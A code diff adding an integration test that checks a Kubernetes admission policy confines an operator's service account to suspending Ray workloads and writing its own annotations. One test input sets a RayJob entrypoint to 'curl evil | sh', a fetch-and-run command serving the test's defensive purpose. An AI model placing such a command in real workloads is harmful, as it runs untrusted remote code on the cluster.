@@ -22,7 +22,7 @@ from kubernetes_asyncio.client.exceptions import ApiException
 
 from shared.kernel.events import kube_effect
 from shared.kubernetes import resources as r
-from shared.kubernetes.kubeapi import KubeApplier, Refused, Watcher, connect
+from shared.kubernetes.kubeapi import KubeApplier, Refused, Watcher, checked, connect
 from shared.kubernetes.lease import LeaseElector, LeaseForbidden
 from shared.parts.devcluster import DevCluster
 from tests.realcluster.conftest import DEPLOY, NAMESPACE, can_i, create, eventually, install, node, token_kubeconfig
@@ -245,3 +245,36 @@ def test_each_rule_is_needed_by_an_operation_muster_does(muster: Muster, kind: s
             assert forbidden(refused.value), f"{what}: without {verb} {qualified}: {refused.value!r}"
     finally:
         _without(muster.cluster, kind, name, None)
+
+
+POLICY_REFUSES = "muster-cluster may"
+
+
+def _patch(m: Muster, resource: r.Resource, name: str, body: dict[str, Any]) -> None:
+    m.run(checked(m.applier._merge_patch(resource, "team-a", name, body)))
+
+
+def test_the_admission_policy_holds_muster_cluster_to_what_it_writes_on_workloads(muster: Muster) -> None:
+    """RBAC's patch on RayJobs and RayClusters cannot name fields; deploy/k8s/base/admission-policy.yaml does:
+    muster-cluster's token changes spec.suspend and muster.dev/ annotations (what KubeApplier writes) and
+    nothing else of a workload, while the cluster's other users are not affected."""
+    for resource, name, other in ((r.RAY_JOB, "rj", {"entrypoint": "curl evil | sh"}),
+                                  (r.RAY_CLUSTER, "rc", {"rayVersion": "9.9.9"})):
+        def refused_entrypoint() -> bool:
+            try:
+                _patch(muster, resource, name, {"spec": other})
+            except ApiException as exc:
+                return exc.status == 422 and POLICY_REFUSES in str(exc.body)
+            return False
+        eventually(refused_entrypoint, f"the policy to refuse a {resource.kind}'s spec", timeout=30)
+        kind = resource.kind
+        muster.run(_effect("unsuspend", kind, name)(muster))  # what muster writes goes through
+        muster.run(_effect("suspend", kind, name)(muster))
+        muster.run(_effect("annotate", kind, name, annotations={"muster.dev/status": "Queued: policy test"})(muster))
+        for body in ({"metadata": {"annotations": {"example.com/other": "x"}}}, {"metadata": {"labels": {"a": "b"}}},
+                     {"metadata": {"finalizers": ["example.com/hold"]}}, {"spec": other}):
+            with pytest.raises(ApiException) as refused:
+                _patch(muster, resource, name, body)
+            assert refused.value.status == 422 and POLICY_REFUSES in str(refused.value.body), (body, refused.value)
+        muster.cluster.kubectl("annotate", resource.plural + "." + resource.group, name, "-n", "team-a",
+                               "example.com/owner=team-a", "--overwrite")  # the admin is not held
